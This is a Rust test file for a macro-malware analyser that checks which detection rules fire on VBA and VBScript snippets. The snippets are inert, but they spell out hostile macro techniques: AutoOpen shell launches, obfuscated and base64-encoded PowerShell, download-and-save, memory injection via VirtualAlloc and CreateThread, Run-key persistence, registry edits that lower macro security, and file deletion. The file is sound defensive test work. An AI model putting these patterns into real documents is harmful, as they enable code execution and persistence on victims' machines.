//! What a user relies on: an act is told with what it is given and how it is reached, and daily
//! work is not told as more than that.

use std::sync::LazyLock;

use super::super::rules::{Category, Given, Role};
use super::*;
use crate::limits::Limits;
use crate::project::ModuleKind;
use crate::source::Language;

/// Gives the modules of a project (of each its name, kind and text) and what its document calls,
/// as a subject of which everything is computed.
pub(super) fn with_subject<T>(
    modules: &[(&str, ModuleKind, &str)],
    language: Language,
    starts: &[Start],
    then: impl FnOnce(&Subject<'_>, &Matcher) -> T,
) -> T {
    static MATCHER: LazyLock<Matcher> = LazyLock::new(Matcher::new);
    let program = Program::read(modules.iter().copied(), language, Vec::new());
    let numbers: Vec<u32> = (0..).take(modules.len()).collect();
    let subject = Subject {
        program: &program,
        starts,
        layer: 0,
        modules: &numbers,
        thorough: true,
        hides: true,
        texts: None,
    };
    then(&subject, &MATCHER)
}

fn examine_modules(modules: &[(&str, ModuleKind, &str)], language: Language) -> Conduct {
    with_subject(modules, language, &[], |subject, matcher| {
        examine(subject, matcher, &mut Ledger::new(Limits::mail()))
    })
}

/// The conduct of a module of Word with one procedure that runs when the document is opened.
fn opened(body: &str) -> Conduct {
    let text = format!("Sub AutoOpen()\r\n{body}\r\nEnd Sub\r\n");
    examine_modules(&[("Module1", ModuleKind::Standard, &text)], Language::Vba)
}

/// The rules of what was found that are more than a note, without the starts.
fn judging(conduct: &Conduct) -> Vec<&'static str> {
    let mut ids: Vec<&str> = conduct
        .findings
        .iter()
        // Names of programs are words of the arguments, not calls.
        .filter(|one| !matches!(one.rule.role, Role::Note | Role::Payload))
        .filter(|one| one.rule.category != Category::Trigger)
        .map(|one| one.rule.id)
        .collect();
    ids.sort_unstable();
    ids.dedup();
    ids
}

fn find<'c>(conduct: &'c Conduct, rule: &str) -> &'c Finding {
    conduct
        .findings
        .iter()
        .find(|one| one.rule.id == rule)
        .unwrap_or_else(|| panic!("{rule} is not in {:#?}", conduct.findings))
}

#[test]
fn an_act_is_told_with_its_path_and_its_argument() {
    let text = "Sub AutoOpen()\r\n Prepare\r\nEnd Sub\r\n\
                Sub Prepare()\r\n Go \"inert-test.invalid\"\r\nEnd Sub\r\n\
                Sub Go(name As String)\r\n Shell \"cmd /c \" & name, 0\r\nEnd Sub\r\n";
    let conduct = examine_modules(&[("Module1", ModuleKind::Standard, text)], Language::Vba);
    let shell = find(&conduct, "execution.shell");
    assert_eq!(
        shell.text,
        "AutoOpen -> Prepare -> Go -> Shell \"cmd /c inert-test.invalid\""
    );
    assert_eq!((shell.level, shell.line), (4, 8));
    let flow = shell.flow.as_deref().unwrap();
    assert_eq!(flow.start, Some(Role::Auto));
    assert_eq!(flow.given, Given::Whole);
    assert_eq!(flow.path, ["AutoOpen", "Prepare", "Go", "Shell"]);
    assert!(!flow.dead && !flow.computed);
}

#[test]
fn an_act_that_nothing_starts_is_told_by_what_it_is_given() {
    for (body, level, given) in [
        ("Shell \"inert.exe\"", 3, Given::Whole),
        ("Shell \"inert.exe \" & x", 3, Given::Part),
        ("Shell x", 2, Given::Unknown),
    ] {
        let text = format!("Private Sub Never(x)\r\n{body}\r\nEnd Sub\r\n");
        let conduct = examine_modules(&[("Module1", ModuleKind::Standard, &text)], Language::Vba);
        let shell = find(&conduct, "execution.shell");
        assert_eq!(shell.level, level, "{body}");
        assert_eq!(shell.flow.as_deref().unwrap().given, given, "{body}");
    }
}

#[test]
fn what_cannot_be_reached_is_told_as_that() {
    let conduct = opened("Exit Sub\r\nShell \"inert.exe\"");
    let shell = find(&conduct, "execution.shell");
    assert_eq!(shell.level, 3);
    assert!(shell.flow.as_deref().unwrap().dead);
}

#[test]
fn programs_are_started_in_many_ways() {
    for (body, rule, argument) in [
        ("Shell \"inert.exe\"", "execution.shell", "inert.exe"),
        (
            "VBA.Interaction.Shell \"inert.exe\"",
            "execution.shell",
            "inert.exe",
        ),
        (
            "Shell Chr(105) & \"nert.exe\"",
            "execution.shell",
            "inert.exe",
        ),
        (
            "CreateObject(\"WScript.Shell\").Run \"inert.exe\", 0",
            "execution.shell-run",
            "inert.exe",
        ),
        (
            "Set w = CreateObject(\"wscript\" & \".shell\")\r\nw.Exec \"inert.exe\"",
            "execution.shell-run",
            "inert.exe",
        ),
        (
            "Dim w As New WshShell\r\nw.Run \"inert.exe\"",
            "execution.shell-run",
            "inert.exe",
        ),
        (
            "Dim w As IWshRuntimeLibrary.WshShell\r\nSet w = New IWshRuntimeLibrary.WshShell\r\nw.Run \"inert.exe\"",
            "execution.shell-run",
            "inert.exe",
        ),
        (
            "CallByName CreateObject(\"WScript.Shell\"), \"Run\", 1, \"inert.exe\", 0",
            "execution.shell-run",
            "inert.exe",
        ),
        (
            "With CreateObject(\"WScript.Shell\")\r\n.Run \"inert.exe\"\r\nEnd With",
            "execution.shell-run",
            "inert.exe",
        ),
        (
            "GetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\").Run \"inert.exe\"",
            "execution.shell-run",
            "inert.exe",
        ),
        (
            "CreateObject(\"Shell.Application\").ShellExecute \"inert.exe\", \"/x\"",
            "execution.shell-verb",
            "inert.exe /x",
        ),
        (
            "GetObject(\"new:{9BA05972-F6A8-11CF-A442-00A0C90A8F39}\").Item.Document.Application.ShellExecute \"inert.exe\"",
            "execution.shell-verb",
            "inert.exe",
        ),
        (
            "s = CreateUnoService(\"com.sun.star.system.SystemShellExecute\")\r\ns.execute(\"inert.exe\", \"/x\", 0)",
            "execution.shell-verb",
            "inert.exe /x",
        ),
        (
            "f = createUnoService(\"com.sun.star.bridge.OleObjectFactory\")\r\nw = f.createInstance(\"WScript.Shell\")\r\nw.Run(\"inert.exe\")",
            "execution.shell-run",
            "inert.exe",
        ),
        (
            "GetObject(\"winmgmts:root\\cimv2:Win32_Process\").Create \"inert.exe\", Null, Null, p",
            "execution.wmi-create",
            "inert.exe",
        ),
        (
            "Set s = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\r\nSet p = s.Get(\"Win32_Process\")\r\np.Create \"inert.exe\", Null, c, i",
            "execution.wmi-create",
            "inert.exe",
        ),
        (
            "Dim l As New SWbemLocator\r\nl.ConnectServer().Get(\"Win32_Process\").Create \"inert.exe\", Null, Null, p",
            "execution.wmi-create",
            "inert.exe",
        ),
        (
            "Application.ExecuteExcel4Macro \"EXEC(\"\"inert.exe\"\")\"",
            "execution.excel4-formula",
            "EXEC(\"inert.exe\")",
        ),
        (
            "Range(\"A1\").Formula = \"=EXEC(\"\"inert.exe\"\")\"",
            "execution.excel4-formula",
            "=EXEC(\"inert.exe\")",
        ),
        (
            "c = DDEInitiate(\"cmd\", \"/c inert\")",
            "execution.dde",
            "cmd, /c inert",
        ),
        (
            "Application.Run \"'\\\\inert.invalid\\x\\a.xlsm'!Go\"",
            "execution.foreign-macro",
            "'\\\\inert.invalid\\x\\a.xlsm'!Go",
        ),
        (
            "GetObject \"script:http://inert.invalid/x\"",
            "execution.script-engine",
            "script:hxxp://inert.invalid/x",
        ),
        (
            "MacScript \"do shell script \"\"curl inert.invalid\"\"\"",
            "execution.macos-command",
            "do shell script \"curl inert.invalid\"",
        ),
    ] {
        let conduct = opened(body);
        let act = find(&conduct, rule);
        assert_eq!(act.level, 4, "{body}");
        assert_eq!(act.flow.as_deref().unwrap().argument, argument, "{body}");
    }
}

#[test]
fn daily_work_is_no_act() {
    for body in [
        "MsgBox \"Shell and Kill\"",
        "Set d = CreateObject(\"Scripting.Dictionary\")\r\nd.Add \"a\", 1",
        "Set c = CreateObject(\"ADODB.Connection\")\r\nc.Open s\r\nc.Execute \"select 1\"",
        "Set o = CreateObject(\"Outlook.Application\")\r\no.CreateItem(0).Display",
        "Set w = CreateObject(\"Word.Application\")\r\nw.Documents.Open \"C:\\inert.docx\"",
        "Set r = CreateObject(\"VBScript.RegExp\")\r\nr.Execute \"x\"",
        "Set x = GetObject(, \"Excel.Application\")",
        "Set x = GetObject(\"C:\\inert.xlsx\")",
        "Application.Run \"Own\"\r\nEnd Sub\r\nSub Own()",
        "Application.Run \"'\" & ThisWorkbook.Name & \"'!Own\"\r\nEnd Sub\r\nSub Own()",
        "Application.OnTime Now, \"Own\"\r\nEnd Sub\r\nSub Own()",
        "x = Evaluate(\"SUM(A1:A9)\")",
        "x = [A1].Value",
        "x = ExecuteExcel4Macro(\"GET.DOCUMENT(50)\")",
        "Range(\"A1\").Formula = \"=SUM(B1:B9)\"",
        "Workbooks.Open \"C:\\inert.xlsx\"",
        "ActiveSheet.Pictures.Insert \"https://inert.invalid/logo.png\"",
        "ThisWorkbook.FollowHyperlink \"https://inert.invalid/\"",
        "Application.SendKeys \"{ESC}\"",
        "Set q = GetObject(\"winmgmts:\").ExecQuery(\"select * from Win32_BIOS\")",
        "x = Environ(\"USERNAME\")",
        "x = ActiveDocument.Variables(\"a\").Value",
        "Set b = ThisWorkbook.PivotCaches.Create(1, Range(\"A1\"), 3)",
        "Application.AutomationSecurity = msoAutomationSecurityForceDisable",
        "obj.Run",
    ] {
        let found = judging(&opened(body));
        let mild = ["execution.wmi", "execution.run-verb"];
        assert!(
            found.iter().all(|rule| mild.contains(rule)),
            "{body}: {found:?}"
        );
    }
}

#[test]
fn files_are_told_by_their_names_and_what_goes_into_them() {
    for (body, rules) in [
        (
            "Open \"C:\\inert.csv\" For Output As #1\r\nPrint #1, x\r\nClose #1",
            &["write.text"][..],
        ),
        (
            "Open p & \"\\inert.vbs\" For Output As #1\r\nPrint #1, x\r\nClose #1",
            &["write.program"],
        ),
        (
            "f = FreeFile\r\nOpen Environ(\"TEMP\") & \"\\inert.exe\" For Binary As #f\r\nPut #f, , x\r\nClose #f",
            &["write.program"],
        ),
        (
            "With CreateObject(\"Scripting.FileSystemObject\")\r\n.CreateTextFile(\"C:\\inert.txt\").WriteLine \"x\"\r\nEnd With",
            &["write.text"],
        ),
        (
            "CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"inert.js\").Write \"x\"",
            &["write.program"],
        ),
        ("FileCopy \"a.dat\", \"C:\\inert.exe\"", &["write.program"]),
        ("Name \"a.dat\" As \"C:\\inert.dll\"", &["write.program"]),
        ("FileCopy \"a.xls\", \"b.xls\"", &["write.file"]),
        ("ThisWorkbook.SaveAs \"C:\\inert.xlsx\"", &["write.save-as"]),
        (
            "ThisWorkbook.SaveAs Application.StartupPath & \"\\inert.xls\"",
            &["persistence.startup-place"],
        ),
        (
            "Set s = CreateObject(\"ADODB.Stream\")\r\ns.WriteText \"x\"\r\ns.SaveToFile \"C:\\inert.txt\", 2",
            &["write.text"],
        ),
        ("Kill \"C:\\inert.txt\"", &["write.delete"]),
        (
            "f = Dir(p)\r\nDo While f <> \"\"\r\nOpen p & f For Input As #1\r\nClose #1\r\nKill p & f\r\nf = Dir\r\nLoop",
            &["write.destroy"],
        ),
    ] {
        assert_eq!(judging(&opened(body)), rules, "{body}");
    }
}

#[test]
fn what_is_fetched_is_told_with_its_address_and_followed_into_the_file() {
    let conduct = opened(
        "Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
         h.Open \"GET\", \"http://inert.invalid/x\" & \".dat\", False\r\n\
         h.Send\r\n\
         Set s = CreateObject(\"ADODB.Stream\")\r\n\
         s.Open\r\ns.Type = 1\r\ns.Write h.ResponseBody\r\n\
         s.SaveToFile \"C:\\inert.dat\", 2",
    );
    assert_eq!(
        judging(&conduct),
        ["network.http", "network.request", "write.bytes"]
    );
    let request = find(&conduct, "network.request");
    assert_eq!(
        request.flow.as_deref().unwrap().argument,
        "hxxp://inert.invalid/x.dat"
    );
    assert!(conduct.iocs.iter().any(|ioc| ioc.kind == "url"
        && ioc.value == "hxxp://inert[.]invalid/x.dat"
        && ioc.decoded));
}

#[test]
fn a_call_that_cannot_be_read_is_opaque() {
    for (body, rule) in [
        (
            "CreateObject Range(\"A1\").Value",
            "obfuscation.opaque-dispatch",
        ),
        (
            "Application.Run ActiveDocument.Variables(\"x\")",
            "obfuscation.opaque-dispatch",
        ),
        (
            "CallByName x, UserForm1.Caption, 1",
            "obfuscation.opaque-dispatch",
        ),
        (
            "CreateObject(f(1)).Run \"inert\"",
            "obfuscation.opaque-verb",
        ),
        ("x.Run \"cmd /c inert\"", "obfuscation.opaque-verb"),
        ("x.Create a, Null, b, c", "obfuscation.opaque-verb"),
        (
            "CreateObject \"Ac\" & \"me.Server\"",
            "execution.hidden-object",
        ),
    ] {
        let found = judging(&opened(body));
        assert!(found.contains(&rule), "{body}: {found:?}");
    }
}

#[test]
fn hidden_texts_are_revealed_and_read() {
    let conduct = opened(
        "x = Chr(112) & \"owers\" & \"hell -nop http://inert.invalid/a\"\r\nCells(1, 1) = x",
    );
    let text = find(&conduct, "obfuscation.hidden-text");
    assert_eq!((text.level, text.line), (3, 3));
    assert_eq!(text.text, "powershell -nop hxxp://inert.invalid/a");
    let command = find(&conduct, "execution.command-line");
    assert_eq!((command.level, command.line), (3, 3));
    assert!(
        conduct
            .iocs
            .iter()
            .any(|ioc| ioc.kind == "url" && ioc.decoded)
    );
}

#[test]
fn what_a_text_decodes_to_is_read_too() {
    // `inert http://inert.invalid/b` in base64 of UTF-16.
    let base64 = "aQBuAGUAcgB0ACAAaAB0AHQAcAA6AC8ALwBpAG4AZQByAHQALgBpAG4AdgBhAGwAaQBkAC8AYgA=";
    let conduct = opened(&format!("Shell \"inert-test -enc {base64}\""));
    assert!(
        conduct
            .iocs
            .iter()
            .any(|ioc| ioc.value == "hxxp://inert[.]invalid/b" && ioc.decoded)
    );
}

#[test]
fn bytes_are_followed_through_the_objects_that_decode_them() {
    // `inert.exe /x` in base64.
    for (kind, text) in [
        ("bin.base64", "aW5lcnQuZXhlIC94"),
        ("bin.hex", "696e6572742e657865202f78"),
    ] {
        let conduct = opened(&format!(
            "Set d = CreateObject(\"MSXML2.DOMDocument\")\r\n\
             Set e = d.createElement(\"b\")\r\n\
             e.dataType = \"{kind}\"\r\n\
             e.Text = \"{text}\"\r\n\
             Set s = CreateObject(\"ADODB.Stream\")\r\n\
             s.Write e.nodeTypedValue\r\n\
             Shell s.ReadText"
        ));
        let shell = find(&conduct, "execution.shell").flow.as_deref().unwrap();
        assert_eq!(shell.argument, "inert.exe /x");
        assert!(shell.computed);
    }
}

#[test]
fn declared_functions_act_where_they_are_called() {
    let declares = "Private Declare PtrSafe Function ShellExecute Lib \"shell32.dll\" Alias \"ShellExecuteA\" (ByVal h As Long, ByVal o As String, ByVal f As String, ByVal p As String, ByVal d As String, ByVal s As Long) As Long\r\n\
         Private Declare PtrSafe Function D Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal c As Long, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal b As Long) As Long\r\n\
         Private Declare PtrSafe Sub Sleep Lib \"kernel32\" (ByVal m As Long)\r\n\
         Private Declare PtrSafe Function WinExec Lib \"kernel32\" (ByVal c As String, ByVal s As Long) As Long\r\n\
         Private Declare PtrSafe Function Own Lib \"inert.dll\" () As Long\r\n\
         Private Declare PtrSafe Function Odd Lib \"inert32\" Alias \"#7\" () As Long\r\n\
         Private Declare PtrSafe Function SetTimer Lib \"user32\" (ByVal h As Long, ByVal i As Long, ByVal m As Long, ByVal p As LongPtr) As Long\r\n";
    for (body, rules) in [
        ("Sleep 100", &[][..]),
        (
            "ShellExecute 0, \"open\", \"https://inert.invalid/\", \"\", \"\", 1",
            &[],
        ),
        (
            "ShellExecute 0, \"open\", x, vbNullString, vbNullString, 1",
            &["execution.open-file"],
        ),
        (
            "ShellExecute 0, \"open\", \"inert.exe\", \"/x\", \"\", 1",
            &["execution.api"],
        ),
        ("WinExec \"inert.exe\", 0", &["execution.api"]),
        (
            "D 0, \"http://inert.invalid/a.txt\", \"C:\\a.txt\", 0, 0",
            &["network.download"],
        ),
        ("Own", &["execution.foreign-library"]),
        ("Odd", &["obfuscation.ordinal-alias"]),
        (
            "SetTimer 0, 0, 100, AddressOf Tick\r\nEnd Sub\r\nSub Tick()",
            &[],
        ),
    ] {
        let text = format!("{declares}Sub AutoOpen()\r\n{body}\r\nEnd Sub\r\n");
        let conduct = examine_modules(&[("Module1", ModuleKind::Standard, &text)], Language::Vba);
        assert_eq!(judging(&conduct), rules, "{body}");
    }
}

#[test]
fn memory_is_code_only_if_it_is_made_and_started() {
    let declare = |name: &str| {
        format!(
            "Private Declare PtrSafe Function {name} Lib \"kernel32\" (ByVal a As LongPtr, ByVal b As LongPtr, ByVal c As LongPtr, ByVal d As LongPtr) As LongPtr\r\n"
        )
    };
    for (names, body, rules) in [
        (&["RtlMoveMemory"][..], "RtlMoveMemory a, b, 4, 0", &[][..]),
        (
            &["RtlMoveMemory", "CallWindowProcA"],
            "CallWindowProcA previous, 1, 2, 3",
            &[],
        ),
        (
            &["VirtualAlloc", "RtlMoveMemory", "CreateThread"],
            "p = VirtualAlloc(0, 100, &H1000, &H40)\r\nCreateThread 0, 0, p, 0",
            &["injection.memory", "injection.thread"],
        ),
        (
            &["VirtualAlloc", "RtlMoveMemory", "EnumDateFormatsW"],
            "p = VirtualAlloc(0, 100, &H1000, &H40)\r\nEnumDateFormatsW p, 0, 0, 0",
            &["injection.memory", "injection.thread"],
        ),
        (
            &["VirtualAlloc", "RtlMoveMemory"],
            "x = 1",
            &["injection.memory"],
        ),
    ] {
        let declares: String = names.iter().map(|name| declare(name)).collect();
        let text = format!("{declares}Sub AutoOpen()\r\n{body}\r\nEnd Sub\r\n");
        let conduct = examine_modules(&[("Module1", ModuleKind::Standard, &text)], Language::Vba);
        assert_eq!(judging(&conduct), rules, "{names:?}");
    }
}

#[test]
fn settings_and_macros_are_told_by_what_is_changed() {
    for (body, rules) in [
        (
            "CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Inert\\x\", 1",
            &["execution.script-host"][..],
        ),
        (
            "CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings\", 1",
            &[
                "defense.macro-security",
                "defense.setting",
                "execution.script-host",
            ],
        ),
        (
            "CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x\", \"inert\"",
            &["execution.script-host", "persistence.run-key"],
        ),
        (
            "ThisDocument.VBProject.VBComponents(1).CodeModule.AddFromString \"Sub x()\"",
            &["defense.self-change"],
        ),
        (
            "Application.OrganizerCopy a, b, \"Module1\", wdOrganizerObjectProjectItems",
            &["persistence.template"],
        ),
        (
            "Application.OrganizerCopy a, b, \"Style1\", wdOrganizerObjectStyles",
            &[],
        ),
        (
            "Application.AutomationSecurity = msoAutomationSecurityLow",
            &["defense.automation-security-low"],
        ),
        (
            "Set o = CreateObject(\"Outlook.Application\")\r\nSet m = o.CreateItem(0)\r\nm.Send",
            &["network.send-mail"],
        ),
    ] {
        assert_eq!(judging(&opened(body)), rules, "{body}");
    }
}

#[test]
fn scripts_run_texts_as_code() {
    let code = "Execute StrReverse(\"\"\"trreni\"\" xoBgsM\")\r\nEval \"1 + 1\"\r\n";
    let conduct = examine_modules(&[("script", ModuleKind::Unknown, code)], Language::VbScript);
    let engines: Vec<u32> = conduct
        .findings
        .iter()
        .filter(|one| one.rule.id == "execution.script-engine")
        .map(|one| one.line)
        .collect();
    assert_eq!(engines, [1]);
}

#[test]
fn a_member_of_an_own_class_by_a_name_that_is_not_known_is_some_member() {
    let modules = [
        (
            "Module1",
            ModuleKind::Standard,
            "Sub AutoOpen()\r\nDim o As New Own\r\nCallByName o, Range(\"A1\").Value, 1\r\nEnd Sub\r\n",
        ),
        (
            "Own",
            ModuleKind::Class,
            "Sub Go()\r\nShell \"inert.exe\"\r\nEnd Sub\r\n",
        ),
    ];
    let conduct = examine_modules(&modules, Language::Vba);
    assert_eq!(judging(&conduct), ["execution.shell"]);
    assert_eq!(find(&conduct, "execution.shell").level, 4);
}

#[test]
fn what_is_bound_to_a_button_is_started_by_a_click() {
    let text = "Sub Setup()\r\n Button.OnAction = \"Go\"\r\nEnd Sub\r\n\
                Sub Go()\r\n Shell \"inert.exe\"\r\nEnd Sub\r\n";
    let conduct = examine_modules(&[("Module1", ModuleKind::Standard, text)], Language::Vba);
    let shell = find(&conduct, "execution.shell");
    assert_eq!(shell.flow.as_deref().unwrap().start, Some(Role::Click));
    let later = "Sub AutoOpen()\r\n Application.OnTime Now, \"Go\"\r\nEnd Sub\r\n\
                 Sub Go()\r\n Shell \"inert.exe\"\r\nEnd Sub\r\n";
    let conduct = examine_modules(&[("Module1", ModuleKind::Standard, later)], Language::Vba);
    let shell = find(&conduct, "execution.shell");
    assert_eq!(shell.flow.as_deref().unwrap().start, Some(Role::Auto));
}
